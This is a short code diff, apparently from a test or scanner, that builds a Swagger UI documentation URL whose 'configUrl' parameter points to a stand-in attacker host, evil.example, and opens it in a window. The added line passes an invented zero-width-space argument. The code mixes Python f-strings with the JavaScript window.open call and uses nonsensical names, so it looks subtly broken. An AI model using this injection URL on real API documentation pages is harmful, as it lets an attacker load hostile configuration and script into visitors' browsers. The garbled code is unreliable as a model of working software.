@@ -89,7 +89,8 @@ def addresses(house: House) -> Seen:
             short = [quote(text[:150], safe="") for text in texts]
             asked = "&".join(f"{text}={text}" for text in short)
             named = f"url={short[0]}&configUrl=http://evil.example/config.json&{asked}"
-            window.open(f"/api/v1/docs?{named}#/{short[1]}")
+            # Swagger UI lets its paths break at zero-width spaces of its own.
+            window.open(f"/api/v1/docs?{named}#/{short[1]}", besides="\u200b")
     return seen
 
 
